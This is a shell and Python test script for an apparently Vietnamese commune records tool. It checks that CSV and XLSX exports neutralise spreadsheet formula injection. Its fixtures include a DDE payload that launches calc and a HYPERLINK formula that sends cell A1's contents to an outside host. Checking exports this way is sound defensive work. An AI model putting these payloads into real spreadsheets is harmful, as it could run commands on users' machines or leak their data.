# Text that a spreadsheet would run as a formula (=, +, -, @, a leading
# tab or carriage return; DDE "=cmd|..."), typed into names or coming in
# the commune's settings, reaches every CSV and XLSX that sapxep writes as
# plain text: list, quota and report in CSV, report in XLSX, read back by
# an independent reader (python3's csv, and openpyxl for XLSX). Signed
# numbers stay numbers. A workbook with control characters in its texts
# still opens.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/hostile.sh"
W="$T/xa"
TAB=$(printf '\t')
CR=$(printf '\r')
"$BIN" init --data "$W" --province 72 --province-name "=1+1" --commune 27601 \
	--name "=cmd|' /C calc'!A0" --class II --region south --officer nva \
	>/dev/null 2>&1 || fail "init"
n=0
for name in '=HYPERLINK("http://x.vn/?"&A1,"Bấm vào")' "+1+1" "-2+3" "@SUM(A1:A9)" \
	"${TAB}=1+2" "${CR}=1+2" "=1+2$PAYLOAD"; do
	n=$((n + 1))
	H=$("$BIN" new hamlets --data "$W" "name=$name" "code=-$n" households=$((100 + n)) \
		"note=$name" 2>/dev/null)
	[ -n "$H" ] || fail "hamlet '$name' not saved"
	"$BIN" new staff --data "$W" "full_name=$name" unit=hamlet "hamlet=$H" \
		positions=truong_thon arrangement=keep effective_date=01/08/2025 >/dev/null 2>&1 \
		|| fail "worker '$name' not saved"
done
"$BIN" new mergers --data "$W" "new_name=@SUM(1)" "hamlets=$H" stage=draft \
	"resolution_no=+84 912" >/dev/null 2>&1 || fail "merger not saved"
# typed text is trimmed, so a leading tab can only come in a file made
# elsewhere
X=00000000-0000-4000-8000-00000000000a
record_file hamlets "id: $X" 'name: "\t=9+9"' "kind: thon" "region: south" "households: 99"

for form in hamlets staff mergers; do
	expect_exit 0 "$BIN" list "$form" --data "$W" --format csv
	cp "$T/out" "$T/list-$form.csv"
done
expect_exit 0 "$BIN" quota --data "$W" --format csv
cp "$T/out" "$T/quota.csv"
expect_exit 0 "$BIN" report --data "$W" --format csv --output "$T/report.csv"
expect_exit 0 "$BIN" report --data "$W" --format xlsx --output "$T/report.xlsx"

# the independent reader: no cell a spreadsheet would run
check "CSV and XLSX cells are text, not formulas" "$PY" - "$T" <<'PY'
import csv, glob, re, sys
import openpyxl
t = sys.argv[1]
number = re.compile(r'^[+-]?[0-9]+([.,][0-9]+)?$')
def runs(v):
    return isinstance(v, str) and v[:1] in ('=', '+', '-', '@', '\t', '\r') \
        and not number.match(v)
bad, cells, seen = [], 0, set()
for path in sorted(glob.glob(t + '/*.csv')):
    with open(path, newline='', encoding='utf-8') as f:
        for row in csv.reader(f):
            for v in row:
                cells += 1
                seen.add(v)
                if runs(v):
                    bad.append((path, v))
wb = openpyxl.load_workbook(t + '/report.xlsx')
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            if c.value is None:
                continue
            cells += 1
            seen.add(c.value)
            if c.data_type == 'f' or runs(c.value):
                bad.append((ws.title, c.coordinate, c.data_type, c.value))
# the texts are there, neutralised with a leading apostrophe
want = ["'=HYPERLINK(\"http://x.vn/?\"&A1,\"Bấm vào\")", "'+1+1", "'-2+3",
        "'@SUM(A1:A9)", "'\t=9+9", "'=cmd|' /C calc'!A0"]
missing = [w for w in want if w not in seen]
print(f"  sheets: {cells} cells read back, {len(bad)} would run as a formula")
for b in bad[:5]:
    print("   ", b)
if missing:
    print("  missing:", missing)
sys.exit(1 if bad or missing else 0)
PY
# signed numbers stay numbers: the code '-1' is a code, kept as typed
contains "$T/list-hamlets.csv" ",-1,"
finish
